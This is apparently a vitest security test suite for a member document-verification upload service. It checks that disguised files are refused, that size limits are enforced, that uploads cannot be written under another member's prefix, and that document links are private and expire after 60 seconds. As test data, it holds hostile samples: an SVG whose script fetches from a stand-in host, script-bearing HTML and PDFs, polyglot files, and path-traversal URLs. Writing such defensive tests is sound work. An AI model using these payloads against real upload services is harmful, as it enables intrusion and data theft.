import { GetObjectCommand, ListObjectVersionsCommand, S3Client } from "@aws-sdk/client-s3";
import { getSignedUrl } from "@aws-sdk/s3-request-presigner";
import { policy } from "@naqi/contracts";
import { beforeAll, describe, expect, inject, it } from "vitest";
import { filesKeys, pool } from "../../packages/local/src/environment.ts";
import { postAgain as post } from "../support/files.suite.ts";
import { jpeg, pdf, png, zip } from "../support/made-files.ts";
import { workerOf } from "../support/http/outbox.ts";
import { type Answer, peopleOf, type Person, useTable } from "../support/http/people.ts";

const product = inject("product");
useTable(product.tableEndpoint);
const people = peopleOf(product.url);
const worker = workerOf(product.url);
const bucket = `${product.url}/local/files/naqi-local-documents`;

interface Form {
  key: string;
  url: string;
  fields: Record<string, string>;
}
interface Mine {
  verification: { status: string; documents: { documentType: string; documentId: string; mimeType: string }[] };
}
type Bytes = Uint8Array<ArrayBuffer>;
const bytesOf = (made: Uint8Array): Bytes => new Uint8Array(made);

/** A member with a verification in progress, and their browser's actions. */
async function applicant(person?: Person) {
  const someone = person ?? (await people.customer());
  const { body } = await people.ask<{ verification: { verificationId: string } }>("POST /verification", {
    as: someone,
    body: {},
  });
  const { verificationId } = body.verification;
  const file = { documentType: "government_id", fileName: "id.jpg", fileSize: 500, mimeType: "image/jpeg" };

  const form = (change: object = {}): Promise<Answer<Form & { code?: string; message?: string }>> =>
    people.ask("POST /verification/documents/form", { as: someone, body: { verificationId, ...file, ...change } });

  const register = (key: string, change: object = {}): Promise<Answer<Mine & { code?: string; message?: string }>> =>
    people.ask("POST /verification/documents", {
      as: someone,
      body: {
        verificationId,
        documentType: "government_id",
        fileName: "id.jpg",
        key,
        documentNumber: "784-1990-1234567-1",
        ...change,
      },
    });

  const link = (documentType = "government_id", by: Person = someone) =>
    people.ask<{ url: string; code?: string }>(`POST /verification/${verificationId}/documents/${documentType}/link`, {
      as: by,
      body: {},
    });

  /** Sends bytes under a form that says so much of them. */
  async function send(bytes: Uint8Array, change: { mimeType?: string; fileName?: string } = {}) {
    const { body: made } = await form(change);
    const sent = await post(made, bytesOf(bytes));
    return { sent, form: made, key: made.key };
  }
  return { someone, verificationId, form, register, link, send };
}

const client = new S3Client({
  endpoint: `${product.url}/local/files`,
  region: pool.region,
  forcePathStyle: true,
  credentials: filesKeys,
});
const Bucket = "naqi-local-documents";

/** Every version that is kept under a prefix. */
async function versionsUnder(Prefix: string) {
  const { Versions = [] } = await client.send(new ListObjectVersionsCommand({ Bucket, Prefix }));
  return Versions.map(({ Key, VersionId }) => ({ key: Key, version: VersionId }));
}

const keyIn = (url: string) => decodeURIComponent(new URL(url).pathname.split(`/${Bucket}/`)[1] ?? "");

const fetched = async (url: string) => {
  const response = await fetch(url);
  return { status: response.status, bytes: Buffer.from(await response.arrayBuffer()), headers: response.headers };
};

describe("files that are not what they say", () => {
  const script = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example")</script></svg>';
  // covers V5.2
  it.each([
    ["a renamed executable", "application/pdf", Buffer.from("MZ\u0090\0\u0003This program cannot be run in DOS mode.")],
    ["an SVG with a script", "image/png", Buffer.from(script)],
    ["a page", "image/jpeg", Buffer.from("<!doctype html><script>alert(1)</script>")],
    ["a picture that is an archive as well", "image/jpeg", Buffer.concat([jpeg(), zip()])],
    ["a picture that is a page as well", "image/png", Buffer.concat([png(), Buffer.from(`<html>${script}</html>`)])],
    [
      "a PDF that acts when it is opened",
      "application/pdf",
      pdf("9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj"),
    ],
    ["half a picture", "image/jpeg", jpeg().subarray(0, 30)],
  ])("%s is refused and destroyed", async (what, mimeType, bytes) => {
    const person = await applicant();
    const { sent, key } = await person.send(bytes, { mimeType, fileName: "passport.pdf" });
    expect(sent.status).toBe(204);
    const answer = await person.register(key);
    const messages: Record<string, string> = {
      "a PDF that acts when it is opened":
        "This PDF contains a script, a form or an attachment. Please print it to a new PDF and upload that, or upload a photo.",
      "half a picture": "This picture is damaged or incomplete. Please choose another one, or take a new photo.",
    };
    const message = messages[what] ?? "Please upload a JPEG, PNG, WebP, or PDF file.";
    expect([answer.status, answer.body.message]).toEqual([400, message]);
    await worker.deliver();
    const again = await person.register(key);
    expect([again.status, again.body.code]).toEqual([409, "verification.notUploaded"]);
    expect((await person.link()).status).toBe(404);
  });

  it("an SVG gets no form at all, and none is sent as another type", async () => {
    const person = await applicant();
    expect((await person.form({ mimeType: "image/svg+xml" })).body).toMatchObject({ code: "verification.fileType" });
    const { body } = await person.form();
    expect((await post(body, script, { "Content-Type": "image/svg+xml" })).status).toBe(403);
  });
});

describe("sizes", () => {
  // covers S051, V5.1, V5.2
  it("10 MB is taken, a byte more is refused by the form, and by the bucket", async () => {
    const person = await applicant();
    const most = new Uint8Array(policy.documentBytes);
    const tooMuch = await person.form({ fileSize: policy.documentBytes + 1 });
    expect([tooMuch.status, tooMuch.body.message]).toEqual([400, "Please upload a file smaller than 10MB."]);
    const { body } = await person.form({ fileSize: 1 });
    const refused = await post(body, new Uint8Array(policy.documentBytes + 1));
    expect([refused.status, await refused.text()]).toEqual([400, expect.stringContaining("EntityTooLarge")]);
    expect((await person.register(body.key)).body.code).toBe("verification.notUploaded");
    // A PDF's head and tail around ten million spaces.
    const whole = pdf();
    most.fill(0x20);
    most.set(whole.subarray(0, 60));
    most.set(whole.subarray(60), most.length - whole.length + 60);
    const { sent, key } = await person.send(most, { mimeType: "application/pdf" });
    expect(sent.status).toBe(204);
    const taken = await person.register(key);
    expect([taken.status, taken.body.verification?.documents[0]?.mimeType]).toEqual([200, "application/pdf"]);
  });

  it("an empty file is refused by the form, and by the bucket", async () => {
    const person = await applicant();
    expect((await person.form({ fileSize: 0 })).body).toMatchObject({ code: "verification.fileEmpty" });
    const { body } = await person.form();
    expect((await post(body, "")).status).toBe(400);
  });
});

describe("places", () => {
  // covers V5.3
  it("writing under another member's prefix fails, with a changed form or by naming the key", async () => {
    const [mine, theirs] = [await applicant(), await applicant()];
    const { body: form } = await mine.form();
    const { key } = await theirs.send(jpeg());
    expect((await post(form, bytesOf(jpeg()), { key })).status).toBe(403);
    expect((await post(form, bytesOf(jpeg()), { key: `${form.key}.html` })).status).toBe(403);
    for (const foreign of [key, `../${key}`, form.key.replace("government_id", "passport"), "incoming/x", ""])
      expect((await mine.register(foreign)).status, foreign).toBeGreaterThanOrEqual(400);
    const stranger = await people.ask("POST /verification/documents/form", {
      as: mine.someone,
      body: {
        verificationId: theirs.verificationId,
        documentType: "passport",
        fileName: "a.jpg",
        fileSize: 9,
        mimeType: "image/jpeg",
      },
    });
    expect([stranger.status, stranger.body.code]).toEqual([404, "verification.notFound"]);
  });

  it("a document that was never uploaded is not registered", async () => {
    const person = await applicant();
    const { body } = await person.form();
    const answer = await person.register(body.key);
    expect([answer.status, answer.body.message]).toEqual([409, "Failed to upload document. Please try again."]);
  });

  it("of two uploads of one type at once one stays, and its file", async () => {
    const person = await applicant();
    const one = await person.send(jpeg());
    const other = await person.send(png(), { mimeType: "image/png", fileName: "id.png" });
    const answers = await Promise.all([person.register(one.key), person.register(other.key)]);
    expect(answers.map(({ status }) => status)).toEqual([200, 200]);
    await worker.deliver();
    const { body } = await people.ask<Mine>("GET /verification", { as: person.someone });
    expect(body.verification.documents).toHaveLength(1);
    const shown = await fetched((await person.link()).body.url);
    const isPng = body.verification.documents[0]?.mimeType === "image/png";
    expect(shown.bytes).toEqual(isPng ? png() : jpeg());
  });

  // covers V5.4
  it("a file swapped under its key after the check is not what is served", async () => {
    const person = await applicant();
    const { form, key } = await person.send(jpeg());
    expect((await person.register(key)).status).toBe(200);
    expect((await post(form, "<script>alert(1)</script>")).status).toBe(204);
    expect((await person.register(key)).status).toBe(200);
    const shown = await fetched((await person.link()).body.url);
    expect([shown.status, shown.bytes]).toEqual([200, jpeg()]);
    expect(shown.headers.get("content-disposition")).toMatch(/^attachment/);
  });
});

describe("a form that is used many times", () => {
  // covers V5.3
  it("leaves one file, and nothing of what else was sent with it", async () => {
    const person = await applicant();
    const { form, key } = await person.send(png());
    for (let sent = 0; sent < 5; sent++) expect((await post(form, bytesOf(jpeg()))).status).toBe(204);
    expect((await person.register(key)).status).toBe(200);
    await worker.deliver();
    const { url } = (await person.link()).body;
    const served = { key: keyIn(url), version: new URL(url).searchParams.get("versionId") };
    expect(await versionsUnder(`${person.someone.memberId}/`)).toEqual([served]);
    expect(await versionsUnder(`incoming/${person.someone.memberId}/`)).toEqual([]);
    expect((await fetched(url)).bytes).toEqual(jpeg());
  });
});

describe("who may read", () => {
  let person: Awaited<ReturnType<typeof applicant>>;
  let key: string;
  let url: string;
  beforeAll(async () => {
    person = await applicant(await people.cleaner());
    ({ key } = await person.send(jpeg()));
    await person.register(key);
    ({ url } = (await person.link()).body);
  });

  // covers B7.1, V3.2, V5.4, V14.2
  it("the owner and staff, by links of 60 seconds", async () => {
    expect(new URL(url).searchParams.get("X-Amz-Expires")).toBe("60");
    expect((await fetched(url)).bytes).toEqual(jpeg());
    const route = `/admin/verifications/${person.someone.memberId}/${person.verificationId}/documents/government_id/link`;
    const admin = await people.admin();
    const staffs = await people.ask<{ url: string }>(`POST ${route}`, { as: admin, body: {} });
    expect((await fetched(staffs.body.url)).bytes).toEqual(jpeg());
    expect(new URL(staffs.body.url).searchParams.get("versionId")).toBe(new URL(url).searchParams.get("versionId"));
    for (const link of [url, staffs.body.url])
      expect((await fetch(link)).headers.get("cache-control")).toBe("private, no-store");
  });

  it("a link is dead after its 60 seconds", async () => {
    const sign = (secondsAgo: number) =>
      getSignedUrl(
        client,
        new GetObjectCommand({
          Bucket,
          Key: keyIn(url),
          VersionId: new URL(url).searchParams.get("versionId") ?? "",
        }),
        { expiresIn: policy.linkSeconds, signingDate: new Date(Date.now() - secondsAgo * 1000) },
      );
    expect((await fetched(await sign(50))).status).toBe(200);
    const dead = await fetched(await sign(61));
    expect([dead.status, String(dead.bytes)]).toEqual([403, expect.stringContaining("Request has expired")]);
  });

  it("others are refused, at every address", async () => {
    const plain = `${bucket}/${key}`;
    const { search } = new URL(url);
    const changed = new URL(url);
    changed.searchParams.set("X-Amz-Expires", "600000");
    const addresses = [
      plain,
      `${plain}?versionId=${new URL(url).searchParams.get("versionId")}`,
      `${bucket}/${key.replace("government_id", "passport")}${search}`,
      changed.href,
      `${bucket}?versions`,
      `${bucket}/?list-type=2`,
      `${product.url}/pictures/${key}`,
      `${product.url}/pictures/../naqi-local-documents/${key}`,
      `${product.url}/local/files/naqi-local-pictures/..%2Fnaqi-local-documents/${key}`,
      `${product.url}/${key}`,
    ];
    for (const address of addresses) {
      const answer = await fetched(address);
      expect(answer.bytes.equals(jpeg()), address).toBe(false);
      expect(answer.status, address).toBeGreaterThanOrEqual(400);
    }
  });

  it("no other member by any operation", async () => {
    const strangers = [await people.customer(), await people.cleaner(), await people.newcomer()];
    const staffRoute = `POST /admin/verifications/${person.someone.memberId}/${person.verificationId}/documents/government_id/link`;
    for (const stranger of strangers) {
      const link = await person.link("government_id", stranger);
      expect([403, 404]).toContain(link.status);
      const asStaff = await people.ask(staffRoute, { as: stranger, body: {} });
      expect([asStaff.status, asStaff.body.code]).toEqual([403, "request.forbidden"]);
    }
    const ownOnStaff = await people.ask(staffRoute, { as: person.someone, body: {} });
    expect(ownOnStaff.status).toBe(403);
    const visitor = await people.ask(staffRoute, { body: {} });
    expect(visitor.status).toBe(401);
  });
});
